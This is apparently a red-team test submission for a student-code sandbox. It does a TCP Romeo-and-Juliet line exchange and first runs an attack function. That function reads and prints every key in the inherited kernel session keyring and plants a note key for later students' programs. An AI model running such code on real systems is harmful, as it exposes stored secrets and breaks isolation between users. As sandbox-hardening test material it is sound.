#!/usr/bin/env python3
"""Hostile submission for balcony-tcp (red team): the kernel keyrings.
Keyrings are not namespaced: a program that inherits the session keyring
of whoever started verona (a login's keyring from pam_keyinit, a systemd
service's own) may read every key in it (the possessor's rights) and add
keys that the next student's program will find there.  It reports every
key it could read ("keyring: read ..."), leaves a note for the next one
("keyring: left a note") and reports a note it finds ("keyring: found a
note").  Then it does the exercise honestly.  Bounded: a few system calls."""
import ctypes
import os
import socket
import struct
import sys

SYS_ADD_KEY, SYS_KEYCTL = 248, 250          # x86_64
KEYCTL_DESCRIBE, KEYCTL_READ = 6, 11
SESSION = -3                                # KEY_SPEC_SESSION_KEYRING
NOTE = "verona-redteam-note"


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    keyctl = libc.syscall

    def read(key):
        buf = ctypes.create_string_buffer(4096)
        n = keyctl(SYS_KEYCTL, KEYCTL_READ, ctypes.c_long(key), buf, 4096)
        return buf.raw[:n] if n >= 0 else None

    ids = read(SESSION)
    if ids is None:
        print("keyring: cannot list the session keyring: errno", ctypes.get_errno(), file=sys.stderr)
        ids = b""
    for (key,) in struct.iter_unpack("=i", ids[:len(ids) // 4 * 4]):
        desc = ctypes.create_string_buffer(512)
        keyctl(SYS_KEYCTL, KEYCTL_DESCRIBE, ctypes.c_long(key), desc, 512)
        name = desc.value.decode(errors="replace").split(";")[-1]
        payload = read(key)
        if payload is None:
            print("keyring: cannot read", name, file=sys.stderr)
        elif name == NOTE:
            print("keyring: found a note:", payload.decode(errors="replace"), file=sys.stderr)
        else:
            print("keyring: read", name, "=", payload.decode(errors="replace"), file=sys.stderr)
    note = ("left by pid %d of %s" % (os.getpid(), sys.argv[1])).encode()
    r = libc.syscall(SYS_ADD_KEY, b"user", NOTE.encode(), note, len(note), ctypes.c_int(SESSION))
    if r >= 0:
        print("keyring: left a note", file=sys.stderr)
    else:
        print("keyring: cannot leave a note: errno", ctypes.get_errno(), file=sys.stderr)


ROMEO = """She speaks:
O, speak again, bright angel! for thou art
As glorious to this night, being o'er my head
As is a winged messenger of heaven
Unto the white-upturned wondering eyes
Of mortals that fall back to gaze on him
When he bestrides the lazy-pacing clouds
And sails upon the bosom of the air.""".splitlines()

JULIET = """O Romeo, Romeo! wherefore art thou Romeo?
Deny thy father and refuse thy name;
Or, if thou wilt not, be but sworn my love,
And I'll no longer be a Capulet.""".splitlines()


def recv_lines(sock):
    data = b""
    while True:
        chunk = sock.recv(1024)
        if not chunk:
            break
        data += chunk
    for line in data.decode().splitlines():
        print("received:", line)


def send_lines(sock, lines):
    for line in lines:
        sock.sendall((line + "\n").encode())
        print("sent:", line)


def main():
    if sys.argv[1] == "juliet":
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("", int(sys.argv[2])))
        server.listen()
        conn, _ = server.accept()
        recv_lines(conn)            # until romeo has said everything
        send_lines(conn, JULIET)
        conn.close()
        server.close()
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.connect((sys.argv[2], int(sys.argv[3])))
        send_lines(sock, ROMEO)
        sock.shutdown(socket.SHUT_WR)   # done speaking
        recv_lines(sock)
        sock.close()


if __name__ == "__main__":
    attack()
    main()
